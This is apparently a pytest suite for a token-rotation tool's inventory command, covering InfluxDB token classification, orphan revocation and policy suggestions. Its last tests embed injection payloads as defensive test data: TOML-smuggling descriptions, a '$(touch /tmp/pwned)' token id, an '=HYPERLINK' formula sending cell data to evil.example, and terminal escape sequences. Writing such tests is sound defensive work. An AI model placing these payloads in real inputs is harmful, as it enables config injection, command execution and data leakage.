"""`rotator inventory` end to end: the fake influxctl (management tokens) and a real OpenBao store,
with managed, orphaned, suspicious, unmanaged, never-expiring and expired tokens seeded.

The orphan is made the way one happens: a run fails (every mint attempt refused), and a token
with that run's tag turns up afterwards (an influxctl child that outlived its rotator). A token
whose tag names a run the journal does not know is only *suspicious*: never revoked.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from tests.harness import Scenario, make_scenario

POLICY = "mgmt"


def rotate_in_process(sc: Scenario) -> str:
    """``rotator rotate`` as set-up for a test about another command: the engine the CLI runs, in this
    process (a rotator process costs a Python start-up and its imports per call). Returns the run's
    state, or "failed" for the error the CLI would print and exit 1 for. The journal is closed again
    before anything else opens it (see tests/harness.py ``_read_in_a_child``)."""
    from rotator.config.policy import load_config
    from rotator.core.engine import Engine
    from rotator.core.errors import RotatorError
    from rotator.core.journal import open_journal
    from rotator.core.retry import RetryPolicy

    config = load_config(sc.config)
    retry = config.settings.retry
    journal = open_journal(config.journal_url())
    try:
        engine = Engine(config.policies[0], journal, lease_ttl=config.settings.lease_ttl,
                        retry=RetryPolicy(retry.attempts, retry.base_delay.total_seconds(),
                                          retry.max_delay.total_seconds()))
        return str(engine.rotate().state)
    except RotatorError:
        return "failed"
    finally:
        journal.close()


@pytest.fixture
def seeded(tmp_path: Any, openbao: Any, fake_influxctl: Any) -> dict[str, Any]:
    fake = fake_influxctl.state
    sc = make_scenario(tmp_path, openbao, fake, grace_s=3600)
    assert rotate_in_process(sc) == "published"
    current = sc.current()["token_id"]
    # A failed run: its mint refused for good, so the run ends FAILED with nothing minted (a try without
    # an answer, such as Unavailable, would keep the run open while its request may still land)...
    fake.add_fault("management create", "exit", times=10, code=1,
                   message="rpc error: code = PermissionDenied desc = permission denied")
    assert rotate_in_process(sc) == "failed"
    fake.clear_faults()
    (failed_run,) = [r[0] for r in sc.journal_rows("SELECT run_id FROM runs WHERE state = 'failed'")]
    # ... and then its child's token appears: the orphan.
    now = datetime.now(UTC)
    values: dict[str, str] = {}
    ids: dict[str, str] = {}
    for key, description, kw in [
        ("orphan", f"rotator:{POLICY}:{failed_run}", {}),
        ("suspicious", f"rotator:{POLICY}:0123abcd0123abcd", {}),
        ("foreign", "rotator:nosuchpolicy:0123abcd0123abcd", {}),
        # an hour old, so that --max-age 1s below flags it however fast the commands run
        ("ci", "ci pipeline token", {"created_at": now - timedelta(hours=1)}),
        ("expired", "last year's token", {"expires_at": now - timedelta(days=3),
                                          "created_at": now - timedelta(days=400)}),
        ("ancient", "grafana (2019)", {"created_at": now - timedelta(days=200)}),
        ("revoked", "revoked by a human", {}),
    ]:
        values[key], ids[key] = fake.add_token(description, **kw)
    fake.revoke(ids["revoked"])
    return {"sc": sc, "ids": ids, "values": values, "current": current, "failed_run": failed_run}


def _json(sc: Scenario, *args: str) -> dict[str, Any]:
    proc = sc.cli("inventory", "--output", "json", *args)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


def _by_id(report: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {t["token_id"]: t for t in report["tokens"]}


def test_inventory_classifies_every_token_against_the_journal(seeded):
    sc, ids = seeded["sc"], seeded["ids"]
    tokens = _by_id(_json(sc))
    assert tokens[seeded["current"]]["class"] == "managed"
    assert tokens[seeded["current"]]["reason"] == "current token"
    assert tokens[sc.bootstrap_id]["class"] == "managed"  # the human's token, recorded at bootstrap
    assert tokens[sc.bootstrap_id]["reason"].startswith("previous token, revocation due")
    assert tokens[ids["orphan"]]["class"] == "orphan"
    assert tokens[ids["orphan"]]["run_id"] == seeded["failed_run"]
    assert tokens[ids["suspicious"]]["class"] == "suspicious"
    assert "does not know" in tokens[ids["suspicious"]]["reason"]
    assert tokens[ids["foreign"]]["class"] == "suspicious"
    assert "not in this policy file" in tokens[ids["foreign"]]["reason"]
    assert tokens[ids["ci"]]["class"] == "unmanaged"
    assert tokens[ids["ci"]]["flags"] == ["no-expiry"]
    assert tokens[ids["expired"]]["state"] == "expired"
    assert tokens[ids["expired"]]["flags"] == ["expired-not-revoked"]
    assert tokens[ids["ancient"]]["flags"] == ["no-expiry", "older-than-max-age"]
    assert "older-than-max-age" not in tokens[seeded["current"]]["flags"]
    assert ids["revoked"] not in tokens  # revoked tokens only with --include-revoked
    assert _by_id(_json(sc, "--include-revoked"))[ids["revoked"]]["state"] == "revoked"
    # --max-age applies to tokens of no policy, and only live tokens are flagged.
    strict = _by_id(_json(sc, "--max-age", "1s"))
    assert "older-than-max-age" in strict[ids["ci"]]["flags"]
    assert "older-than-max-age" not in strict[ids["expired"]]["flags"]
    sc.assert_no_leak(seeded["values"].values())


def test_inventory_table_and_csv_outputs(seeded):
    sc, ids = seeded["sc"], seeded["ids"]
    table = sc.cli("inventory")
    assert table.returncode == 0, table.stderr
    lines = table.stdout.splitlines()
    assert lines[0].split()[:4] == ["ISSUER", "TOKEN", "ID", "CLASS"]
    row = next(line for line in lines if ids["suspicious"] in line)
    assert "orphan?" in row
    assert lines[-1].startswith("8 token(s): 2 managed, 1 orphan, 2 suspicious, 3 unmanaged")
    proc = sc.cli("inventory", "--output", "csv")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    by_id = {r["token_id"]: r for r in rows}
    assert by_id[ids["ancient"]]["flags"] == "no-expiry;older-than-max-age"
    assert by_id[ids["orphan"]]["class"] == "orphan"
    assert {r["issuer"] for r in rows} == {f"influxctl-management:{POLICY}"}
    # An issuer that cannot be listed: said on stderr, exit 1, the other targets (none here) still listed.
    sc.fake.add_fault("management list", "exit", times=-1, code=1, message="Error: service unavailable")
    down = sc.cli("inventory", "--output", "json")
    assert down.returncode == 1
    assert f"rotator: error: influxctl-management:{POLICY}:" in down.stderr
    assert json.loads(down.stdout)["errors"][0]["issuer"] == f"influxctl-management:{POLICY}"
    sc.assert_no_leak(seeded["values"].values())


def test_revoke_orphans_refuses_without_yes_off_a_terminal(seeded):
    sc, ids = seeded["sc"], seeded["ids"]
    proc = sc.cli("inventory", "--revoke-orphans")
    assert proc.returncode == 2
    assert "--yes" in proc.stderr
    assert sc.fake.token_by_id(ids["orphan"])["revoked_at"] is None


def test_revoke_orphans_revokes_only_confirmed_orphans_and_audits_it(seeded):
    sc, ids = seeded["sc"], seeded["ids"]
    proc = sc.cli("inventory", "--revoke-orphans", "--yes")
    assert proc.returncode == 0, proc.stderr
    assert f"orphan {ids['orphan']}: revoked" in proc.stderr
    assert sc.fake.token_by_id(ids["orphan"])["revoked_at"] is not None
    for key in ("suspicious", "foreign", "ci", "ancient"):
        assert sc.fake.token_by_id(ids[key])["revoked_at"] is None, f"{key} must never be revoked"
    assert sc.fake.token_by_id(seeded["current"])["revoked_at"] is None
    assert sc.fake.token_by_id(sc.bootstrap_id)["revoked_at"] is None  # still within its grace
    events = sc.journal_rows("SELECT step, result, run_id, detail FROM events WHERE step IN "
                             "('inventory', 'revoke_orphan') ORDER BY at")
    assert [(e[0], e[1], e[2]) for e in events] == [("inventory", "revoke_orphans", seeded["failed_run"]),
                                                    ("revoke_orphan", "ok", seeded["failed_run"])]
    assert ids["orphan"] in events[1][3]
    after = _by_id(_json(sc))
    assert ids["orphan"] not in after
    assert sc.cli("inventory", "--revoke-orphans", "--yes").stderr.count("no orphan to revoke") == 1
    sc.assert_no_leak(seeded["values"].values())


def test_suggest_prints_a_policy_that_validates_and_bootstraps(seeded):
    sc, ids, values = seeded["sc"], seeded["ids"], seeded["values"]
    proc = sc.cli("inventory", "--suggest")
    assert proc.returncode == 0, proc.stderr
    blocks = proc.stdout.split("\n# Brings token ")[1:]
    assert len(blocks) == 2  # "ci" and "ancient": the live unmanaged tokens (not the expired one)
    block = next("# Brings token " + b for b in blocks if b.startswith(ids["ci"]))
    assert 'name = "adopt-ci-pipeline-token"' in block
    with sc.config.open("a") as fh:
        fh.write("\n" + block)
    assert sc.cli("validate").returncode == 0
    token_file = sc.dir / "ci-token"
    token_file.write_text(values["ci"])
    boot = sc.cli("bootstrap", "adopt-ci-pipeline-token", "--token-file", str(token_file), "--token-id", ids["ci"])
    token_file.unlink()
    assert boot.returncode == 0, boot.stderr
    assert _by_id(_json(sc))[ids["ci"]]["class"] == "managed"
    sc.assert_no_leak(values.values())


def test_bare_influxctl_profile_without_a_policy_file(seeded):
    sc, ids, values = seeded["sc"], seeded["ids"], seeded["values"]
    profile = sc.fake.path.parent / "human.toml"
    from rotator.sandbox.influxctl_state import write_profile

    write_profile(profile, mgmt_token=values["ci"], host="cluster.test.invalid")
    proc = sc.cli("inventory", "--no-policies", "--output", "json",
                  "--influxctl-profile", f"{profile}:default", "--influxctl", str(_fake_binary()))
    assert proc.returncode == 0, proc.stderr
    report = json.loads(proc.stdout)
    tokens = _by_id(report)
    # Without a journal a tag is only a claim: nothing is an orphan, tagged tokens are suspicious.
    assert tokens[ids["orphan"]]["class"] == "suspicious"
    assert tokens[ids["ci"]]["class"] == "unmanaged"
    assert {t["issuer"] for t in report["tokens"]} == {f"influxctl-management:{profile}:default"}
    sc.assert_no_leak(values.values())


def _fake_binary() -> Any:
    from tests.harness import INFLUXCTL

    return INFLUXCTL


# ---------------------------------------------------------------------------------- the other issuers
def _classes(report: dict[str, Any]) -> dict[str, tuple[str, list[str]]]:
    return {t["token_id"]: (t["class"], t["flags"]) for t in report["tokens"]}


def test_database_tokens_of_an_influxctl_database_policy(tmp_path, openbao, fake_influxctl):
    from tests.e2e.test_e2e_database_tokens import make_db_scenario

    sc = make_db_scenario(tmp_path, openbao, fake_influxctl.state, grace_s=3600)
    assert sc.cli("rotate", "dbtok").returncode == 0
    legacy_value, legacy = sc.fake.add_db_token("legacy dashboards", {"read": ["db1"]})
    _, tagged = sc.fake.add_db_token("rotator:dbtok:feedfacefeedface", {"read": ["db1"]})
    report = _json(sc)
    classes = _classes(report)
    assert classes[sc.current()["token_id"]] == ("managed", [])
    assert classes[sc.bootstrap_id][0] == "managed"
    assert classes[legacy] == ("unmanaged", ["no-expiry"])
    assert classes[tagged][0] == "suspicious"
    assert {t["issuer"] for t in report["tokens"]} == {"influxctl-database:dbtok"}
    sc.assert_no_leak([legacy_value, sc.mgmt_value, *(v["token"] for v in sc.versions())])


@pytest.mark.parametrize("variant", ["influxdb3", "influxdb2"])
def test_http_issuer_policy_and_the_same_server_as_a_bare_url(variant, tmp_path, openbao):
    from tests.e2e.test_e2e_http_issuers import APP_PERMISSIONS, scenario
    from tests.fakes.influxdb2_fake import InfluxDB2Fake
    from tests.fakes.influxdb3_fake import InfluxDB3Fake

    fake = InfluxDB2Fake() if variant == "influxdb2" else InfluxDB3Fake("core")
    with fake.running():
        sc = scenario(variant, tmp_path, openbao, fake)
        sc.grace_s = 3600
        assert sc.cli("rotate", sc.policy).returncode == 0
        if variant == "influxdb3":
            values = [fake.add_named_admin("grafana-admin"), fake.add_named_admin("rotator-app-0123abcd0123abcd")]
            unmanaged, suspicious = "grafana-admin", "rotator-app-0123abcd0123abcd"
        else:
            v1, unmanaged = fake.add_authorization("telegraf", APP_PERMISSIONS)
            v2, suspicious = fake.add_authorization("rotator:app:0123abcd0123abcd", APP_PERMISSIONS)
            values = [v1, v2]
        sc.secrets.update(values)
        report = _json(sc)
        classes = _classes(report)
        assert classes[sc.current()["token_id"]][0] == "managed"
        assert classes[unmanaged] == ("unmanaged", ["no-expiry"])
        assert classes[suspicious][0] == "suspicious"
        # The same server as a bare --url, listed with an admin token from a file, without the policy file.
        admin = tmp_path / "bare-admin"
        admin.write_text(fake.operator_value)
        sc.secrets.add(fake.operator_value)
        extra: list[str] = []
        if variant == "influxdb2":
            from tests.fakes.influxdb2_fake import ORG_ID

            extra = ["--org-id", ORG_ID]
        bare = sc.cli("inventory", "--no-policies", "--output", "json", "--url", fake.url, "--kind", variant,
                      "--token-file", str(admin), *extra)
        assert bare.returncode == 0, bare.stderr
        bare_classes = _classes(json.loads(bare.stdout))
        assert bare_classes[unmanaged] == ("unmanaged", ["no-expiry"])
        assert {t["issuer"] for t in json.loads(bare.stdout)["tokens"]} == {f"{variant}:{fake.url}"}
        sc.assert_no_leak(sc.secrets | {v["token"] for v in sc.versions()})


def test_management_api_database_tokens_as_a_bare_url(management_api_fake, tmp_path):
    fake = management_api_fake
    value, _ = fake.add_management_token()
    token_file = tmp_path / "mgmt-token"
    token_file.write_text(value + "\n")
    db_value, db_id = fake.add_token("dashboards", expires_at=datetime.now(UTC) - timedelta(days=1))
    _, live_id = fake.add_token("ingest")
    extra = ["--account-id", fake.account_id, "--cluster-id", fake.cluster_id] if fake.product == "dedicated" else []
    from rotator.runners.cli import main

    out = tmp_path / "out.json"
    import contextlib

    with out.open("w") as fh, contextlib.redirect_stdout(fh):
        code = main(["inventory", "--no-policies", "--output", "json", "--url", fake.base_url,
                     "--kind", "management-api", "--product", fake.product, "--token-file", str(token_file), *extra])
    assert code == 0
    text = out.read_text()
    classes = _classes(json.loads(text))
    assert classes[db_id] == ("unmanaged", ["expired-not-revoked"])
    assert classes[live_id] == ("unmanaged", ["no-expiry"])
    assert value not in text and db_value not in text


def test_daemon_inventory_interval_exports_rotator_tokens(tmp_path, openbao, fake_influxctl, monkeypatch):
    from rotator.runners.daemon import Daemon

    sc = make_scenario(tmp_path, openbao, fake_influxctl.state)
    fake_influxctl.state.add_token("ci pipeline token")
    with sc.config.open("a") as fh:
        fh.write('\n[daemon]\ninventory_interval = "1m"\n')
    for key, value in sc.env().items():
        monkeypatch.setenv(key, value)
    daemon = Daemon(sc.config, serve_http=False, handle_signals=False)
    daemon.start()
    try:
        daemon.tick(datetime.now(UTC))
        assert daemon._inventory_thread is not None
        daemon._inventory_thread.join(timeout=60)
        value = daemon.metrics.registry.get_sample_value
        issuer = "influxctl-management|profile='clustered/cluster.test.invalid/443//'"  # its cluster, not its policies
        assert value("rotator_tokens", {"issuer": issuer, "class": "managed"}) == 1
        assert value("rotator_tokens", {"issuer": issuer, "class": "unmanaged"}) == 1
        assert value("rotator_tokens_flagged", {"issuer": issuer, "class": "unmanaged", "flag": "no-expiry"}) == 1
        assert value("rotator_inventory_errors") == 0
        first = daemon._inventory_thread
        daemon.tick(datetime.now(UTC))  # not due again for a minute
        assert daemon._inventory_thread is first
    finally:
        daemon.shutdown()


def test_classification_rules_on_journal_records(tmp_path):
    """Unit test of the rules the end-to-end tests do not reach: a published run's extra token, a run in
    progress, a token the journal says it revoked but the issuer lists active, several tags."""
    import tomllib

    from rotator.config.policy import parse_config
    from rotator.core.contracts import TokenInfo
    from rotator.core.journal import Revocation, RunRecord, RunState, open_journal
    from rotator.observe.inventory import Target, take_inventory

    policy = parse_config(tomllib.loads("""
[[policy]]
name = "p"
schedule = "30d"
[policy.issuer]
type = "influxctl-management"
[policy.issuer.profile]
product = "clustered"
host = "h.invalid"
[[policy.store]]
type = "vault-kv2"
url = "http://127.0.0.1:1"
path = "x"
[policy.store.auth]
method = "token"
token = { file = "t" }
"""), tmp_path / "rotator.toml").policies[0]
    now = datetime.now(UTC)
    journal = open_journal(f"sqlite:///{tmp_path / 'j.db'}")

    def run(run_id: str, state: str, token: str | None, published: bool, ago: timedelta = timedelta(0)) -> None:
        at = now - ago
        journal.begin_run(RunRecord(run_id=run_id, policy="p", state=state, kind="rotate", started_at=at,
                                    updated_at=at, new_token_id=token, published_at=at if published else None))

    run("aaaa", RunState.DONE, "t-current", True)
    run("bbbb", RunState.DONE, "t-old", True, ago=timedelta(days=30))  # the run aaaa superseded
    run("cccc", RunState.MINTED, "t-inflight", False)
    journal.schedule_revocation(Revocation("p", "t-old", "aaaa", "superseded", due_at=now, state="done"))
    listed = [
        TokenInfo("t-current", "rotator:p:aaaa"),
        # a retried mint of the published run: never published itself (created while the run could mint)
        TokenInfo("t-extra", "rotator:p:aaaa", created_at=now),
        # Only the description ties these to a run: no creation time, or one when no mint of the run could
        # land (run bbbb ended 30 days ago), is no proof (a person's token mentioning the tag).
        TokenInfo("t-extra-no-time", "rotator:p:aaaa"),
        TokenInfo("t-copied-late", "rotator:p:bbbb", created_at=now),
        TokenInfo("t-old", "rotator:p:bbbb"),  # revoked per the journal, active per the issuer
        TokenInfo("t-inflight", "rotator:p:cccc"),
        TokenInfo("t-two", "rotator:p:aaaa rotator:p:bbbb"),
        TokenInfo("t-gone", "rotator:p:bbbb", revoked_at=now),
        # Tags the journal cannot vouch for: suspicious while the token works, retired once it does not
        # (a revocation that found its token expired leaves it listed; a prune or an edit of the file
        # then leaves its tag unknown).
        TokenInfo("t-unknown-run", "rotator:p:pruned1"),
        TokenInfo("t-unknown-run-expired", "rotator:p:pruned2", expires_at=now - timedelta(days=1)),
        TokenInfo("t-gone-policy", "rotator:gone:abc"),
        TokenInfo("t-gone-policy-expired", "rotator:gone:abd", expires_at=now - timedelta(days=1)),
        TokenInfo("t-two-expired", "rotator:p:aaaa rotator:p:bbbb", expires_at=now - timedelta(days=1)),
    ]

    class Lister:
        def list_tokens(self, credential: Any) -> list[TokenInfo]:
            return listed

    target = Target("influxctl-management:p", "influxctl-management", [(policy, Lister(), lambda: None)])  # type: ignore[list-item]
    inv = take_inventory([target], journal, [policy], now, include_revoked=True)
    got = {e.token_id: (e.cls, e.sweep) for e in inv.entries}
    assert got["t-current"] == ("managed", None)
    assert got["t-extra"] == ("orphan", ("aaaa", "t-current"))  # the sweep keeps the published token
    assert got["t-extra-no-time"] == ("suspicious", None)
    assert got["t-copied-late"] == ("suspicious", None)
    assert got["t-old"][0] == "suspicious"
    assert got["t-inflight"][0] == "managed"
    assert got["t-two"][0] == "suspicious"
    assert got["t-gone"][0] == "retired"
    assert got["t-unknown-run"][0] == "suspicious" and got["t-gone-policy"][0] == "suspicious"
    for expired in ("t-unknown-run-expired", "t-gone-policy-expired", "t-two-expired"):
        assert got[expired] == ("retired", None), expired
    reasons = {e.token_id: e.reason for e in inv.entries}
    assert reasons["t-gone-policy-expired"].endswith("not in this policy file; no longer active (expired)")
    assert inv.counts()[("influxctl-management:p", "suspicious")] == 6, \
        "t-old, t-two, the two live unknown tags, and the two tags no creation time ties to their run"
    assert inv.counts()[("influxctl-management:p", "retired")] == 3, "the expired ones; t-gone (revoked) is not counted"


def test_influxdb3_orphan_named_by_a_failed_run_is_found_and_revoked(tmp_path, openbao):
    """InfluxDB 3 tokens have no description: the tag is the name <prefix>-<run id>, which only the
    policy's own issuer maps back to its tag; the orphan is revoked over HTTP through the engine's sweep."""
    from tests.e2e.test_e2e_http_issuers import scenario
    from tests.fakes.influxdb3_fake import InfluxDB3Fake

    fake = InfluxDB3Fake("core")
    with fake.running():
        sc = scenario("influxdb3", tmp_path, openbao, fake)
        assert sc.cli("rotate", sc.policy).returncode == 0
        fake.fail_next("named_admin", 409)  # refused: the run fails without a token
        assert sc.cli("rotate", sc.policy).returncode == 1
        (failed_run,) = [r[0] for r in sc.journal_rows("SELECT run_id FROM runs WHERE state = 'failed'")]
        orphan = f"rotator-{sc.policy}-{failed_run}"
        sc.secrets.add(fake.add_named_admin(orphan))  # the request that outlived its rotator
        sc.secrets.add(fake.add_named_admin("rotator-app-0123abcd0123abcd"))  # a run the journal never had
        classes = _classes(_json(sc))
        assert classes[orphan][0] == "orphan"
        assert classes["rotator-app-0123abcd0123abcd"][0] == "suspicious"
        proc = sc.cli("inventory", "--revoke-orphans", "--yes")
        assert proc.returncode == 0, proc.stderr
        assert orphan in fake.deleted
        assert "rotator-app-0123abcd0123abcd" not in fake.deleted
        assert fake.token(sc.current()["token_id"]) is not None
        sc.assert_no_leak(sc.secrets | {v["token"] for v in sc.versions()})


def test_a_suggested_policy_does_not_inherit_the_source_s_former_token_name_prefixes():
    """They name the source policy's own old tokens: the new policy would tag those as its own."""
    from rotator.observe.inventory import Entry, suggest_policy

    source = {"name": "app", "issuer": {"type": "influxdb3", "base_url": "https://influx.example:8181",
                                        "credential": "self", "token_name_prefix": "svc-new",
                                        "former_token_name_prefixes": ["rotator-app"]}}
    entry = Entry("influxdb3:https://influx.example:8181", "influxdb3", "grafana", "", "active", "unmanaged", (),
                  "no rotator tag, unknown to the journal")
    text = suggest_policy(entry, source, None, ["app"])
    assert 'token_name_prefix = "rotator-adopt-grafana"' in text
    assert "former_token_name_prefixes" not in text and "rotator-app" not in text


def test_a_token_description_cannot_write_toml_into_a_suggested_policy():
    """The description is the issuer's (whoever can create a token writes it): a newline in it ended the
    comment line, and the rest became TOML of the block operators append to their policy file."""
    import tomllib

    from rotator.observe.inventory import Entry, suggest_policy

    source = {"name": "app", "issuer": {"type": "influxdb3", "base_url": "https://influx.example:8181",
                                        "credential": "self"}}
    evil = 'ci token\n[rotator]\njournal = "/tmp/evil.db"\r\nkeep_history = "1d"\x7f'
    entry = Entry("influxdb3:https://influx.example:8181", "influxdb3", "t-1", evil, "active", "unmanaged", (),
                  "no rotator tag, unknown to the journal")
    text = suggest_policy(entry, source, None, ["app"])
    parsed = tomllib.loads(text)
    assert "rotator" not in parsed, "nothing of the description is TOML"
    assert list(parsed) == ["policy"] and len(parsed["policy"]) == 1
    first = text.splitlines()[0]
    assert first.startswith("# Brings token t-1 (ci token\\x0a[rotator]")
    # The id too: an InfluxDB 3 token's id is its name, anyone's choice.
    named = Entry(entry.target, entry.kind, 'x\n[rotator]\njournal = "/tmp/evil.db"\n$(touch /tmp/pwned)', "d",
                  "active", "unmanaged", (), "")
    text = suggest_policy(named, source, None, ["app"])
    assert "rotator" not in tomllib.loads(text)
    command = next(line for line in text.splitlines() if line.startswith("#   rotator bootstrap"))
    assert command.endswith("--token-id 'x\\x0a[rotator]\\x0ajournal = \"/tmp/evil.db\"\\x0a$(touch /tmp/pwned)'")
    assert '\\x0d\\x0akeep_history = "1d"\\x7f)' in first


@pytest.mark.parametrize("path", ["team-\N{ROCKET}/influx", 'team "a"\\b/influx', "t\u00e9am-\U0010ffff/influx"])
def test_a_suggested_policy_is_toml_whatever_the_characters_of_the_source_s_store_path(path):
    """A store path above the Basic Multilingual Plane (an emoji) validates: json.dumps wrote it as a
    surrogate pair, an escape TOML refuses, and the suggestion did not parse."""
    import tomllib

    from rotator.observe.inventory import Entry, suggest_policy

    source = {"name": "app", "issuer": {"type": "influxdb3", "base_url": "https://influx.example:8181",
                                        "credential": "self"},
              "store": [{"type": "vault-kv2", "url": "http://127.0.0.1:1", "path": path,
                         "auth": {"method": "token", "token": {"file": path}}}]}
    entry = Entry("influxdb3:https://influx.example:8181", "influxdb3", "grafana", "", "active", "unmanaged", (),
                  "no rotator tag, unknown to the journal")
    text = suggest_policy(entry, source, None, ["app"])
    store = tomllib.loads(text)["policy"][0]["store"][0]
    assert store["path"] == f"{path}-adopt-grafana"
    assert store["auth"]["token"] == {"file": path}
    assert text.isascii(), "no character of the policy's text reaches the terminal as it is"


def test_an_issuer_s_text_reaches_no_spreadsheet_formula_and_no_terminal_control(capsys):
    """Descriptions are anyone's who can create a token: in the CSV an auditor opens in a spreadsheet,
    `=HYPERLINK(...)` would run; in the table, an escape sequence would reach the terminal and a
    newline would forge a row."""
    from rotator.observe.inventory import Entry, Inventory
    from rotator.runners.cli import _print_inventory

    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    entries = [Entry("t", "management", "tok-1", evil, "active", "unmanaged", (), "no rotator tag"),
               Entry("t", "management", "tok-2", "ci\x1b[2J\nt  tok-9  managed", "active", "unmanaged", (), "r"),
               Entry("t", "influxdb3", "named\x1b]0;x\x07\nt  tok-8", "", "active", "unmanaged", (), "r")]
    result = Inventory(entries, [], ["t"])
    now = datetime.now(UTC)
    _print_inventory("csv", result, now)
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["description"] == "'" + evil, "a leading quote: the spreadsheet shows text"
    _print_inventory("table", result, now)
    table = capsys.readouterr().out
    assert "\x1b" not in table and "[ci\\x1b[2J\\x0at  tok-9  managed]" in table
    assert not any(line.startswith(("t  tok-9", "t  tok-8")) for line in table.splitlines()), "no forged row"
    assert "named\\x1b]0;x\\x07\\x0at  tok-8" in table, "an InfluxDB 3 token's id is its name: anyone's text"


def test_untrusted_text_helpers():
    from rotator.observe.untrusted_text import one_line, spreadsheet_cell

    assert [spreadsheet_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "plain", "-", 3, None)] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "plain", "-", 3, None]
    assert one_line("a\nb\r\x00\x7f\tc é") == "a\\x0ab\\x0d\\x00\\x7f\\x09c é"
    assert one_line("csi\x9b2J rlo\u202etxt.exe") == "csi\\x9b2J rlo\\u202etxt.exe", "C1 and bidi controls too"


def test_a_bootstrapped_token_s_age_counts_from_its_creation_at_the_issuer(tmp_path: Any) -> None:
    """A person's token created two years ago and bootstrapped yesterday: the journal published it
    yesterday, the issuer created it long before. The inventory's age (and its older-than-max-age flag)
    counts from the earlier of the two; a token minted and published at once is unchanged."""
    from rotator.core.contracts import TokenInfo
    from rotator.observe.inventory import MANAGED, TOO_OLD, _Facts, _flags
    from tests.harness import offline_policy

    now = datetime(2026, 6, 1, tzinfo=UTC)
    policy = offline_policy(tmp_path, "p")
    facts = _Facts(published_at={"human": now - timedelta(days=1), "minted": now - timedelta(days=1)})
    old = TokenInfo("human", "made by a person", created_at=now - timedelta(days=730))
    flags, age = _flags(old, "active", MANAGED, policy, facts, now, timedelta(days=365))
    assert age == timedelta(days=730) and TOO_OLD in flags
    fresh = TokenInfo("minted", "rotator:p:r1", created_at=now - timedelta(days=1, seconds=2))
    flags, age = _flags(fresh, "active", MANAGED, policy, facts, now, timedelta(days=365))
    assert age == timedelta(days=1, seconds=2) and TOO_OLD not in flags


def test_an_operator_token_the_journal_names_with_16_hex_digits_is_the_live_one_listed_with_9(tmp_path, openbao):
    """rotator recorded InfluxDB 3 operator token generations as ``_admin@<16 hex digits>`` before;
    system.tokens shows 9 (rotator/adapters/http/influxdb3.py). The inventory compared the ids as they
    were: with such a journal the live operator token was `unmanaged` (no-expiry), and `--check` exited
    4 until the next rotation. Matched as the issuer matches them, it is the policy's current token."""
    import uuid

    from rotator.adapters.http.influxdb3 import operator_token_id
    from tests.e2e.test_e2e_http_issuers import HttpScenario
    from tests.fakes.influxdb3_fake import InfluxDB3Fake

    fake = InfluxDB3Fake("core")
    with fake.running():
        (tmp_path / "vault-token").write_text(openbao.root_token)
        sc = HttpScenario(dir=tmp_path, vault_url=openbao.url, vault_token=openbao.root_token,
                          variant="influxdb3-operator", fake=fake, kv_path=f"influx/{uuid.uuid4().hex[:10]}")
        sc.secrets.add(fake.operator_value)
        sc.write_policy()
        recorded = "_admin@" + fake.hash_of("_admin")[:16]  # as the journal of an earlier rotator holds it
        sc.bootstrap_with(fake.operator_value, recorded)
        assert sc.journal_rows("SELECT new_token_id FROM runs") == [(recorded,)]
        listed = operator_token_id(fake.hash_of("_admin"))
        proc = sc.cli("inventory", "--check", "--output", "json")
        assert proc.returncode == 0, proc.stderr
        token = _by_id(json.loads(proc.stdout))[listed]
        assert (token["class"], token["policy"], token["reason"]) == ("managed", sc.policy, "current token")
        # A past generation named the old way is the policy's too: once rotated, the live one is the new
        # generation, and the bootstrapped one (gone from system.tokens) is nobody's concern.
        assert sc.cli("rotate", sc.policy).returncode == 0
        proc = sc.cli("inventory", "--check", "--output", "json")
        assert proc.returncode == 0, proc.stderr
        (live,) = [t for t in json.loads(proc.stdout)["tokens"] if t["token_id"].startswith("_admin")]
        assert (live["token_id"], live["class"]) == (sc.current()["token_id"], "managed")
        sc.assert_no_leak(sc.secrets | {v["token"] for v in sc.versions()})
